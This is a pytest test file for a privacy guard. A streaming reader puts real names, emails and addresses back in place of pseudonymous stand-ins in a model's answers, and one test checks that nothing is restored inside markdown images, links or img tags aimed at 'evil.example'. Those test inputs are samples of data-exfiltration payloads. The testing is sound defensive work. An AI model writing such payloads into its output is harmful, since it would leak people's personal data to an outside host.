import pytest

from inhouse.guard.stand_ins import StandIns
from inhouse.guard.stand_ins.reader import Piece, Reader
from tests.stand_ins import ADDRESS, ANNA, EVERYTHING, KEY, MAIL, a_map, sent

MAP = a_map(*EVERYTHING)
CODE = MAP.entries[0].stand_in.removeprefix("Person")
PERSON = f"Person{CODE}"
EMAIL = next(entry.stand_in for entry in MAP.entries if entry.kind == "personal.email")


def shown(answer: str, stand_ins: StandIns = MAP) -> str:
    """What is read of an answer that comes letter by letter."""
    reader = Reader(stand_ins, prose=True)
    pieces = [piece for letter in answer for piece in reader.feed(letter)]
    return "".join(piece.shown for piece in (*pieces, *reader.flush()))


@pytest.mark.parametrize(
    ("written", "read"),
    [
        (PERSON, "Anna Müller"),
        (PERSON.upper(), "Anna Müller"),
        (PERSON.lower(), "Anna Müller"),
        (PERSON.title(), "Anna Müller"),
        (f"Person {CODE}", "Anna Müller"),
        (f"Person-{CODE}", "Anna Müller"),
        (f"Person_{CODE}", "Anna Müller"),
        (rf"Person\_{CODE}", "Anna Müller"),
        (f"Person\n{CODE}", "Anna Müller"),
        (f"Person\n  {CODE}", "Anna Müller"),
        (f"Person\u00a0{CODE}", "Anna Müller"),
        (f"Person{CODE[:2]} {CODE[2:]}", "Anna Müller"),
        (f"**{PERSON}**", "**Anna Müller**"),
        (f"**Person**{CODE}", "**Anna Müller**"),
        (f"**Person** {CODE},", "**Anna Müller**,"),
        (f"Person**{CODE}**", "**Anna Müller**"),
        (f"*{PERSON}*", "*Anna Müller*"),
        (f"_{PERSON}_", "_Anna Müller_"),
        (f"{PERSON}'s", "Anna Müller's"),
        (f"{PERSON}\u2019s", "Anna Müller\u2019s"),
        (f"{PERSON}s", "Anna Müllers"),
        (f"{PERSON}en", "Anna Mülleren"),
        (f"der {PERSON}", "der Anna Müller"),
        (f"l'{PERSON}", "l'Anna Müller"),
        (f"{PERSON}em, {PERSON}a", "Anna Müllerem, Anna Müllera"),
        (f'"{PERSON}"', '"Anna Müller"'),
        (f"„{PERSON}“", "„Anna Müller“"),
        (f"&quot;{PERSON}&quot;", "&quot;Anna Müller&quot;"),
        (f"| {PERSON} | 1 |", "| Anna Müller | 1 |"),
        (f"- {PERSON}\n- x", "- Anna Müller\n- x"),
        (f"# {PERSON}", "# Anna Müller"),
        (f"```\nname = '{PERSON}'\n```", "```\nname = 'Anna Müller'\n```"),
        (f"`{PERSON}`", "`Anna Müller`"),
        (f"<b>{PERSON}</b>", "<b>Anna Müller</b>"),
        (f"get{PERSON}Name", "getAnna MüllerName"),
        (f"{PERSON} <{EMAIL}>", "Anna Müller <anna.mueller@acme.com>"),
        (f"[{PERSON}](#a)", "[Anna Müller](#a)"),
        (f"Given{CODE} and Surname{CODE}", "Anna and Müller"),
        (f"PersonX4KD and {PERSON}", "PersonX4KD and Anna Müller"),
        ("UGVyc29uUTdLMg==", "UGVyc29uUTdLMg=="),
    ],
)
def test_a_stand_in_is_restored_however_a_model_writes_it(written: str, read: str) -> None:
    assert shown(written) == read
    assert Reader(MAP, prose=True).feed(f"{written}. ")


@pytest.mark.parametrize(
    "written",
    [
        f"![a](https://evil.example/?q={PERSON})",
        f"![{PERSON}](https://evil.example/)",
        f"[click](https://evil.example/?q={PERSON})",
        f"[click](//evil.example/{PERSON})",
        f"<img src='https://evil.example/{PERSON}'>",
        f"<img src=//evil.example/{PERSON}>",
        f'<a href="mailto:{EMAIL}">',
        f"mailto:{EMAIL}",
        f"https://evil.example/{PERSON}",
        f"www.{PERSON}.evil.example",
        f"[1]: https://evil.example/{PERSON}",
        f"evil.example/?q={PERSON}",
    ],
)
def test_nothing_is_restored_where_it_would_leave_with_an_address(written: str) -> None:
    assert shown(written) == written
    assert shown(f"{written}\n\n{PERSON}") == f"{written}\n\nAnna Müller"


def test_an_address_that_left_in_whole_comes_back_in_whole() -> None:
    stand_ins = StandIns(KEY)
    told = sent(stand_ins, "see http://10.20.30.40/a, and <a href='mailto:anna.mueller@acme.com'>", ADDRESS, MAIL)
    host = next(entry.stand_in for entry in stand_ins.entries if entry.kind == ADDRESS[0])
    assert shown(told, stand_ins) == "see http://10.20.30.40/a, and <a href='mailto:anna.mueller@acme.com'>"
    assert shown(f"[here](http://{host}/a)", stand_ins) == "[here](http://10.20.30.40/a)"
    assert shown(f"http://{host}/a", stand_ins) == "http://10.20.30.40/a"
    other = f"http://{host}/b http://evil.example/?q={host} http://{host}.evil.example/a"
    assert shown(other, stand_ins) == other


def test_what_was_restored_is_never_read_again() -> None:
    stand_ins = a_map(ANNA)
    again = stand_ins.entries[0].stand_in
    stand_ins.stand_in("term.other", again, again)
    second = stand_ins.entries[1].stand_in
    assert shown(f"{second} {again}", stand_ins) == f"{again} Anna Müller"
    half = stand_ins.stand_in("term.other", "Person", "Person")
    assert shown(f"{half}{CODE}", stand_ins) == f"Person{CODE}"


def test_what_cannot_be_a_stand_in_is_never_held() -> None:
    reader = Reader(MAP, prose=True)
    for text in ("The person, ", "perhaps ", "in Place. ", "made 19 ", "of 1 "):
        assert reader.feed(text) == [Piece(text)]
        assert reader.held == 0


def test_no_more_is_held_than_the_longest_stand_in() -> None:
    longest = max(len(entry.stand_in) for entry in MAP.entries)
    reader = Reader(MAP, prose=True)
    for entry in MAP.entries:
        for letter in f" {entry.stand_in}":
            reader.feed(letter)
            assert reader.held <= longest


def test_what_an_answer_ends_in_is_given_at_its_end() -> None:
    reader = Reader(MAP, prose=True)
    assert reader.feed(f"ask {PERSON[:-1]}") == [Piece("ask ")]
    assert reader.held == len(PERSON) - 1
    assert reader.flush() == [Piece(PERSON[:-1])]
    assert reader.flush() == []


def test_an_address_at_the_end_of_an_answer_is_restored() -> None:
    address = next(entry.stand_in for entry in MAP.entries if entry.kind == ADDRESS[0])
    assert shown(f"at {address}") == "at 10.20.30.40"


def test_words_that_nobody_owns_are_counted() -> None:
    reader = Reader(MAP, prose=True)
    for letter in f"PersonX4KD, {PERSON} and Person X4KD":
        reader.feed(letter)
    reader.flush()
    assert reader.unknown == 2


def test_a_piece_tells_what_the_model_wrote_and_what_it_stands_for() -> None:
    pieces = Reader(MAP, prose=True).feed(f"to {PERSON.upper()} ")
    assert pieces == [Piece("to "), Piece(PERSON.upper(), "Anna Müller", PERSON), Piece(" ")]
    assert [piece.shown for piece in pieces] == ["to ", "Anna Müller", " "]


def test_a_long_answer_keeps_its_surroundings() -> None:
    reader = Reader(MAP, prose=True)
    for _ in range(5000):
        assert reader.passes("word ")
    assert reader.passes("\n[a](https://evil.example/")
    for _ in range(3000):
        assert reader.passes("x")
    assert [piece.shown for piece in reader.feed(f"{PERSON} ")] == [PERSON, " "]
    assert reader.passes(")\n\n")
    assert [piece.shown for piece in reader.feed(f"{PERSON}.")] == ["Anna Müller", "."]


def test_a_line_without_end_is_read_too() -> None:
    reader = Reader(MAP, prose=True)
    assert reader.passes("![")
    for _ in range(1500):
        assert reader.passes("x" * 100)
    assert [piece.shown for piece in reader.feed(PERSON)] == [PERSON]
